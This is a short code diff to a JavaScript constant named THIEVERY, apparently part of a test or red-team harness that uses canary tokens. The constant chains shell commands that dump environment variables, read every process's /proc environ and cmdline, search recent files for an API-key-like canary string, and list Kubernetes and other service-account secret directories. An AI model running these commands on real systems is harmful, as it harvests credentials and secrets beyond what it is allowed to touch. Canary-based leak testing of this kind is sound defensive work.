@@ -19,7 +19,7 @@ const QUESTION = {
 const THIEVERY = [
   "env",
   "cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'",
-  "find / -xdev -type f -size -64k -newermt '-1 hour' -not -path '/proc/*' 2>/dev/null | head -2000 | xargs -r grep -lsI canary 2>/dev/null",
+  "find / -xdev -type f -size -64k -newermt '-1 hour' -not -path '/proc/*' 2>/dev/null | head -2000 | xargs -r grep -lsI 'sk-ant-[c]anary' 2>/dev/null",
   "ls -la /var/run/secrets/pilothouse /var/run/secrets/kubernetes.io/serviceaccount 2>&1",
   "echo looked everywhere",
 ].join("; ");
